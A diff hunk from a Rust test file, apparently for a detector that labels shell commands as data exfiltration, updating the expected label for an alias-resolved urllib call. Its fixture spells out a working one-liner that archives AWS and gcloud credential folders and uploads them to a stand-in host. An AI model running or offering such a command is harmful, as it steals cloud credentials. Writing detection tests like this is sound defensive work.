@@ -700,7 +700,7 @@ fn a_secret_read_line_by_line_into_dns_names() {
 #[test]
 fn secrets_piped_into_an_interpreter_that_uploads_its_input() {
     let py = "tar -cz -C \"$HOME\" .aws .config/gcloud | python3 -c \"import sys,urllib.request as r;r.urlopen(r.Request('https://t.example/in',data=sys.stdin.buffer.read()))\"\n";
-    assert_eq!(kinds(py), ["exfil:r.urlopen"]);
+    assert_eq!(kinds(py), ["exfil:urllib.request.urlopen"]);
     let wrapped = format!("sh -c '{}'\n", py.trim_end().replace('\'', "\\\""));
     assert!(
         kinds(&wrapped).iter().any(|k| k.starts_with("exfil:")),
